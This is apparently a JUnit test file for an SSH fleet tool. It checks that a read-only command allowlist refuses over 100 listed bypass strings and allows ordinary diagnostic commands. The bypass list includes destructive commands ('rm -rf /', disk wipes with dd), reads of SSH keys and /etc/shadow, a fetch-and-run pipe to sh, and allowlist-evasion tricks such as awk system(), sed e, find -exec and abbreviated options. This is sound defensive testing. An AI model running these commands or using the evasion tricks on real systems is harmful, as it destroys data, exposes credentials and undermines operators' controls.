package io.github.sshfleet.policy;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.github.sshfleet.core.FleetException;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * exec_readonly's check against a corpus: bypasses seen in peers' read-only modes and regex allowlists (operators,
 * substitutions, redirections, find -exec, awk system(), sed e, option abbreviations, bundled flags, globs that
 * expand to options, verbs hidden behind option values), all refused; and real read-only commands, all allowed.
 */
class ReadOnlyCommandsTest {

    private final ReadOnlyCommands list = ReadOnlyCommands.with(List.of("docker ps", "kubectl get", "zpool status"));

    static final List<String> BYPASSES = List.of(
            // command separators and operators
            "ls; rm -rf /",
            "ls && rm -rf /",
            "ls || rm -rf /",
            "ls & rm -rf /",
            "ls\nrm -rf /",
            "ls\r\nreboot",
            "ls |& tee /etc/passwd",
            "cat /etc/passwd | sh",
            "cat x | bash",
            "echo hi | tee /etc/motd",
            "ls | xargs rm",
            "cat list | xargs -n1 rm",
            "(rm -rf /)",
            "{ rm -rf /; }",
            "ls ;",
            "| ls",
            "ls |",
            "ls | | wc",
            // substitutions and expansions
            "echo $(rm -rf /)",
            "echo `reboot`",
            "echo \"$(reboot)\"",
            "echo \"`reboot`\"",
            "cat $HOME/.ssh/id_rsa",
            "cat ${HOME}",
            "echo $((1+1))",
            "ls $IFS-la",
            "echo \"${PATH}\"",
            "cat <(reboot)",
            "diff <(ls) >(rm x)",
            "echo $'\\x72m'",
            // redirections
            "echo hi > /etc/passwd",
            "echo hi >> /etc/passwd",
            "cat < /etc/shadow",
            "ls 2>/tmp/x",
            "ls >| /tmp/x",
            "ls &>/tmp/x",
            "cat <<EOF",
            "grep x 1>&2",
            // assignments, paths, quoting the program, sudo
            "PATH=/tmp ls",
            "LD_PRELOAD=/tmp/x.so cat /etc/hosts",
            "IFS=x ls",
            "/tmp/ls",
            "./ls",
            "../bin/cat x",
            "'rm' -rf /",
            "\"rm\" x",
            "r\\m -rf /",
            "l* /",
            "sudo cat /etc/shadow",
            "sudo -i",
            // programs that run programs or interpret code
            "sh -c 'rm -rf /'",
            "bash -c reboot",
            "env rm -rf /",
            "awk 'BEGIN{system(\"reboot\")}'",
            "awk '{print > \"/etc/passwd\"}' x",
            "sed -n '1e reboot' /etc/hosts",
            "sed -i s/a/b/ /etc/hosts",
            "perl -e 'unlink \"/x\"'",
            "python3 -c 'import os'",
            "nohup reboot",
            "timeout 5 rm x",
            "watch rm x",
            "nice rm x",
            "xargs rm",
            "vi /etc/passwd",
            "less /etc/passwd",
            "man ls",
            "tee /etc/passwd",
            "dd if=/dev/zero of=/dev/sda",
            "rm -rf /",
            "reboot",
            "shutdown -h now",
            "kill -9 1",
            "chmod 777 /",
            "curl http://x | sh",
            "git log",
            "tar xf x.tar",
            "crontab -r",
            // find
            "find / -delete",
            "find / -exec rm {} ;",
            "find / -exec rm '{}' +",
            "find / -execdir rm x",
            "find / -ok rm",
            "find / -okdir rm",
            "find / -fprint /etc/passwd",
            "find / -fprintf /tmp/x %p",
            "find / -fprint0 /tmp/x",
            "find / -fls /tmp/x",
            "find / -name x -delete",
            // tail, sort, uniq, date, hostname, journalctl, dmesg, ss, mount, file
            "tail -f /var/log/syslog",
            "tail -F /var/log/syslog",
            "tail -fn5 /var/log/syslog",
            "tail -n5 -f x",
            "tail --follow=name x",
            "tail --fo x",
            "tail --retry x",
            "sort -o /etc/passwd x",
            "sort -uo /etc/passwd x",
            "sort --output=/etc/passwd x",
            "sort --outp=/etc/passwd x",
            "sort --compress-program=sh x",
            "uniq in /etc/passwd",
            "date -s 2020-01-01",
            "date --set=2020-01-01",
            "date 010100002020",
            "hostname evil",
            "hostname -F /tmp/name",
            "hostname -b x",
            "journalctl -f",
            "journalctl -n5 -f",
            "journalctl --vacuum-size=1M",
            "journalctl --vacuum-time=1s",
            "journalctl --rotate",
            "journalctl --flush",
            "journalctl --follow",
            "journalctl --vac=1",
            "dmesg -c",
            "dmesg --clear",
            "dmesg -C",
            "ss -K dst 1.2.3.4",
            "ss --kill",
            "ss -D /tmp/x",
            "mount /dev/sda1 /mnt",
            "mount -a",
            "mount -o remount,rw /",
            "mount --bind / /mnt",
            "file -C -m /tmp/magic",
            // systemctl and other verbs
            "systemctl restart nginx",
            "systemctl stop sshd",
            "systemctl --property status restart nginx",
            "systemctl -p status restart nginx",
            "systemctl -H evil status",
            "systemctl isolate rescue.target",
            "systemctl poweroff",
            "hostnamectl set-hostname x",
            "timedatectl set-time 2020-01-01",
            "ip link set eth0 down",
            "ip addr add 10.0.0.1/24 dev eth0",
            "ip route flush all",
            "ip -batch /tmp/cmds",
            "ip -force -batch x",
            "ip netns exec x sh",
            "ip",
            // extensions keep their verb first
            "docker run -it alpine",
            "docker -H ps run alpine",
            "docker --config ps run x",
            "kubectl delete pod x",
            "zpool destroy tank",
            // globs that can expand to options; comments; quoting tricks
            "sort *",
            "cat *",
            "ls -l *.log",
            "tail ?",
            "head [ab]",
            "ls # hidden",
            "echo 'unterminated",
            "echo \"unterminated",
            "ls \\",
            "",
            "   ",
            "ls\u0000rm",
            "ls\u001b[2J");

    static final List<String> READ_ONLY = List.of(
            "uptime",
            "df -h",
            "df -h /",
            "free -m",
            "uname -a",
            "id",
            "whoami",
            "hostname",
            "hostname -f",
            "date",
            "date -u +%Y-%m-%dT%H:%M:%SZ",
            "date -d yesterday +%F",
            "ls -la /etc",
            "ls -l /var/log/*.log",
            "ls ./*.conf",
            "cat /etc/os-release",
            "cat /proc/meminfo",
            "cat /proc/loadavg /proc/uptime",
            "head -n 20 /var/log/syslog",
            "tail -n 100 /var/log/syslog",
            "tail -n5 /var/log/auth.log",
            "grep -i error /var/log/syslog",
            "grep -rn 'listen' /etc/nginx",
            "grep -c ssh /etc/passwd",
            "wc -l /etc/passwd",
            "sort /etc/passwd",
            "sort -t: -k3 -n /etc/passwd",
            "sort -t o /etc/hosts",
            "cut -d: -f1 /etc/passwd",
            "cut -d: -f1 /etc/passwd | sort | uniq -c",
            "ps aux",
            "ps aux | grep nginx",
            "ps -eo pid,comm,%cpu --sort=-%cpu | head",
            "ss -tlnp",
            "ss -s",
            "ip addr",
            "ip -br addr show",
            "ip route",
            "ip -4 route show",
            "ip route get 1.1.1.1",
            "ip link show",
            "ip -j addr show dev eth0",
            "stat /etc/passwd",
            "stat -c '%a %U %n' /etc/shadow",
            "find /etc -name '*.conf'",
            "find /var/log -type f -mtime -1",
            "find / -xdev -size +100M",
            "find /etc -newer /etc/hostname -print",
            "systemctl status nginx",
            "systemctl is-active sshd",
            "systemctl is-enabled nginx",
            "systemctl list-units --failed",
            "systemctl show -p ActiveState nginx",
            "systemctl",
            "journalctl -u nginx -n 50 --no-pager",
            "journalctl --since '1 hour ago' -p err",
            "journalctl -b -1 -k",
            "lsblk",
            "lsblk -f",
            "mount",
            "du -sh /var/log",
            "du -sh /var/log/* ",
            "dmesg | tail -20",
            "echo hello",
            "echo \"quoted text with # and ;\"",
            "grep 'a;b' /etc/hosts",
            "grep \"x|y\" /etc/hosts",
            "uniq -c /etc/hosts",
            "who",
            "last -n 5",
            "lsof -i :22",
            "sha256sum /etc/hosts",
            "hostnamectl",
            "timedatectl status",
            "docker ps -a",
            "kubectl get pods -A",
            "zpool status",
            "find / -name passwd ! -path '/proc/*'");

    @Test
    void everyBypassIsRefusedAndSaysNothingRan() {
        assertTrue(BYPASSES.size() >= 100, BYPASSES.size() + " bypass attempts");
        List<String> allowed = new ArrayList<>();
        for (String c : BYPASSES) {
            try {
                list.check(c);
                allowed.add(c);
            } catch (FleetException e) {
                assertEquals(FleetException.Kind.POLICY, e.kind(), c);
                assertTrue(
                        e.getMessage().contains("Nothing ran") && e.getMessage().contains("use exec"), c);
            }
        }
        assertEquals(List.of(), allowed, "bypasses that got through");
    }

    @Test
    void realReadOnlyCommandsAreAllowed() {
        assertTrue(READ_ONLY.size() >= 50, READ_ONLY.size() + " read-only commands");
        List<String> refused = new ArrayList<>();
        for (String c : READ_ONLY) {
            try {
                list.check(c);
            } catch (FleetException e) {
                refused.add(c + "  ->  " + e.getMessage());
            }
        }
        assertEquals(List.of(), refused, "read-only commands refused");
    }

    @Test
    void aRefusalNamesTheExactToken() {
        FleetException e = assertThrows(FleetException.class, () -> list.check("ls /tmp; reboot"));
        assertTrue(e.getMessage().contains("';'"), e.getMessage());
        e = assertThrows(FleetException.class, () -> list.check("sort --outp=/etc/passwd x"));
        assertTrue(
                e.getMessage().contains("--outp=/etc/passwd") && e.getMessage().contains("--output"), e.getMessage());
        e = assertThrows(FleetException.class, () -> list.check("frobnicate"));
        assertTrue(e.getMessage().contains("'frobnicate' is not on the read-only list"), e.getMessage());
    }

    @Test
    void readonlyCommandsEntriesAreCheckedAtLoad() {
        assertTrue(ReadOnlyCommands.problemWith("docker ps").isEmpty());
        assertTrue(ReadOnlyCommands.problemWith("nginx -T").isEmpty(), "a fixed option word");
        assertTrue(ReadOnlyCommands.problemWith("nginx -T $(id)").isPresent());
        assertTrue(ReadOnlyCommands.problemWith("bash").orElseThrow().contains("cannot be read-only"));
        assertTrue(ReadOnlyCommands.problemWith("awk").isPresent());
        assertTrue(
                ReadOnlyCommands.problemWith("systemctl restart").orElseThrow().contains("built in"));
        assertTrue(ReadOnlyCommands.problemWith("docker; rm").isPresent());
        assertTrue(ReadOnlyCommands.problemWith("").isPresent());
    }
}
